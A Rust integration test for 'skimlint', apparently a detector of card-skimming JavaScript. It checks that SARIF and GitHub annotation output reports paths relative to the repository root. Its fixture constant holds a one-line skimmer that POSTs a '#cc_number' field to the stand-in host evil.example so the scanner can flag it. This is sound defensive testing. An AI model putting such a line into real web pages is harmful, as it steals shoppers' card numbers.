//! What GitHub reads: SARIF for code scanning and `github` workflow annotations. Paths must be
//! relative to the repository root (GitHub resolves them there), whatever folder was scanned and
//! however it was named; the SARIF details GitHub needs to show a result fully.

mod common;
use common::skimlint;

use std::io::Write;
use std::path::{Path, PathBuf};

const SKIMMER_JS: &str = "var x = 1;\nfetch(\"https://evil.example/c\", {method: \"POST\", body: document.querySelector(\"#cc_number\").value});\n";

fn write(root: &Path, rel: &str, bytes: &[u8]) {
    let p = root.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, bytes).unwrap();
}

fn zip_of(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (name, bytes) in members {
        w.start_file(*name, opts).unwrap();
        w.write_all(bytes).unwrap();
    }
    w.finish().unwrap().into_inner()
}

/// Runs skimlint in `dir`; returns (exit code, stdout, stderr).
fn run(dir: &Path, args: &[&str]) -> (i32, String, String) {
    let out = skimlint()
        .current_dir(dir)
        .args(args)
        .arg("--no-config")
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8(out.stdout).unwrap(),
        String::from_utf8(out.stderr).unwrap(),
    )
}

fn sarif(dir: &Path, args: &[&str]) -> serde_json::Value {
    let mut all = args.to_vec();
    all.extend(["--format", "sarif"]);
    let (code, out, err) = run(dir, &all);
    assert_eq!(code, 1, "{err}");
    serde_json::from_str(&out).unwrap()
}

/// The distinct result URIs of a SARIF log, and its `%SRCROOT%`.
fn uris(doc: &serde_json::Value) -> (Vec<String>, String) {
    let run = &doc["runs"][0];
    let mut out: Vec<String> = run["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            let a = &r["locations"][0]["physicalLocation"]["artifactLocation"];
            assert_eq!(a["uriBaseId"], "%SRCROOT%");
            a["uri"].as_str().unwrap().to_string()
        })
        .collect();
    out.dedup();
    let base = run["originalUriBaseIds"]["%SRCROOT%"]["uri"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    (out, base)
}

/// The `file=` values of `github` annotations.
fn annotated_files(dir: &Path, args: &[&str]) -> Vec<String> {
    let mut all = args.to_vec();
    all.extend(["--format", "github"]);
    let (_, out, err) = run(dir, &all);
    let mut files: Vec<String> = out
        .lines()
        .filter_map(|l| l.split("file=").nth(1))
        .map(|rest| rest.split(',').next().unwrap().to_string())
        .collect();
    files.dedup();
    assert!(!files.is_empty(), "{out}{err}");
    files
}

fn canonical(p: &Path) -> PathBuf {
    std::fs::canonicalize(p).unwrap()
}

fn file_uri(p: &Path) -> String {
    format!("file://{}/", canonical(p).display())
}

#[test]
fn sarif_and_annotation_paths_are_relative_to_the_repository_root() {
    let dir = tempfile::tempdir().unwrap();
    let repo = dir.path().join("repo");
    // A git work tree is recognised by its `.git` (git itself is not run).
    std::fs::create_dir_all(repo.join(".git")).unwrap();
    write(&repo, "fixtures/shop/app/a.js", SKIMMER_JS.as_bytes());
    write(
        &repo,
        "fixtures/upload.zip",
        &zip_of(&[("theme/b.js", SKIMMER_JS.as_bytes())]),
    );
    write(dir.path(), "outside/c.js", SKIMMER_JS.as_bytes());
    let shop_abs = repo.join("fixtures/shop");
    let shop_abs = shop_abs.to_str().unwrap();
    let expected = vec!["fixtures/shop/app/a.js".to_string()];

    // Absolute path, as `$GITHUB_WORKSPACE/fixtures/shop` in CI: not `app/a.js`.
    let (u, base) = uris(&sarif(&repo, &["check", shop_abs]));
    assert_eq!(u, expected);
    assert_eq!(base, file_uri(&repo));
    assert_eq!(annotated_files(&repo, &["check", shop_abs]), expected);
    // The same from anywhere: the root is the work tree around the scanned path.
    let (u, base) = uris(&sarif(dir.path(), &["check", shop_abs]));
    assert_eq!((u, base), (expected.clone(), file_uri(&repo)));
    // Relative paths, from a subfolder, with `../`.
    let fixtures = repo.join("fixtures");
    assert_eq!(uris(&sarif(&fixtures, &["check", "shop"])).0, expected);
    assert_eq!(uris(&sarif(&fixtures, &["check", "./shop/"])).0, expected);
    let app = repo.join("fixtures/shop/app");
    assert_eq!(uris(&sarif(&app, &["check", "."])).0, expected);
    assert_eq!(uris(&sarif(&app, &["check", "../../shop"])).0, expected);
    assert_eq!(annotated_files(&app, &["check", "../app/../app"]), expected);
    // A single file, relative and absolute.
    assert_eq!(uris(&sarif(&app, &["check", "a.js"])).0, expected);
    let file_abs = app.join("a.js");
    assert_eq!(
        uris(&sarif(dir.path(), &["check", file_abs.to_str().unwrap()])).0,
        expected
    );
    // Archive members keep their `!/` part after the archive's repository path.
    let zip = repo.join("fixtures/upload.zip");
    assert_eq!(
        uris(&sarif(&app, &["check", zip.to_str().unwrap()])).0,
        vec!["fixtures/upload.zip!/theme/b.js".to_string()]
    );
    // Several roots at once.
    assert_eq!(
        uris(&sarif(&fixtures, &["check", "upload.zip", shop_abs])).0,
        vec![
            "fixtures/shop/app/a.js".to_string(),
            "fixtures/upload.zip!/theme/b.js".to_string()
        ]
    );

    // --root overrides the work tree.
    let (u, base) = uris(&sarif(&repo, &["check", shop_abs, "--root", "fixtures"]));
    assert_eq!(u, vec!["shop/app/a.js".to_string()]);
    assert_eq!(base, file_uri(&fixtures));
    let (code, _, err) = run(&repo, &["check", shop_abs, "--root", "nope"]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("--root"), "{err}");

    // No work tree around the path: relative to the current folder, `../` when outside it.
    let outside = dir.path().join("outside");
    assert_eq!(
        uris(&sarif(dir.path(), &["check", outside.to_str().unwrap()])).0,
        vec!["outside/c.js".to_string()]
    );
    assert_eq!(
        uris(&sarif(&repo, &["check", "../outside"])).0,
        vec!["../outside/c.js".to_string()]
    );

    // The other formats keep paths as scanned.
    let (_, concise, _) = run(&app, &["check", ".", "--format", "concise"]);
    assert!(concise.starts_with("a.js:2:"), "{concise}");
}
